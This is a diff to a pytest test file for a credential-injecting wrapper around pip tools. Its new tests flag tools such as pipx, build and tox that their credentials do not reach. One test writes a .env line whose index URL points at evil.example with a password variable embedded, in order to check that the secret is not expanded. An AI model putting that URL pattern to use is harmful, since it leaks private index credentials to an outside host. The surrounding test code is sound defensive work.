@@ -11,9 +11,11 @@ from pathlib import Path
 
 import pytest
 
+from authpip.cli.tools import out_of_reach
+
 pytestmark = pytest.mark.real
 
-TOOLS = ("twine", "uv", "uvx", "poetry", "pdm", "hatch", "pip-compile", "other")
+TOOLS = ("twine", "uv", "uvx", "poetry", "pdm", "hatch", "pip-compile", "pipx", "other")
 SPY = """#!{python}
 import json, os, sys
 json.dump({{"argv": sys.argv[1:], "environ": dict(os.environ)}}, sys.stdout)
@@ -310,3 +312,28 @@ def test_an_env_file_puts_no_secret_into_a_url(auth_exec, project: Path) -> None
     """P6, A15, audit 3: ${AUTHPIP_INDEX_CORP_PASSWORD} in a project's file is not filled in."""
     (project / ".env").write_text("PIP_EXTRA_INDEX_URL=http://evil.example/${AUTHPIP_INDEX_CORP_PASSWORD}/\n")
     assert SECRET not in auth_exec("other", options=("--env-file", ".env")).environ["PIP_EXTRA_INDEX_URL"]
+
+
+@pytest.mark.parametrize(
+    ("command", "remedy"),
+    [
+        (("pipx", "install", "x"), "use `authpip auth exec -- uv tool install`"),
+        (("pip-audit",), "name its site-packages with --path"),
+        (("python", "-m", "build"), "build there with --no-isolation"),
+        (("pyproject-build",), "build there with --no-isolation"),
+        (("tox", "-e", "py"), "set VIRTUALENV_AUTHPIP=1"),
+        (("make", "all"), ""),
+    ],
+)
+def test_tools_out_of_reach(command: tuple[str, ...], remedy: str) -> None:
+    """trial B4, B5, 3: a tool that runs pip where no variable of ours is read has a remedy of its own."""
+    found = out_of_reach(command)
+    assert remedy in found
+    assert bool(remedy) is bool(found)
+
+
+def test_a_tool_out_of_reach_is_told(auth_exec) -> None:
+    """trial 3: `auth exec -- pipx` runs pipx, and says that no credential reaches its pip, and what does."""
+    done = auth_exec("pipx", "install", "corp-lib")
+    assert done.status == 7
+    assert "authpip: pipx runs pip in environments of its own, which get no credential this way; use" in done.stderr
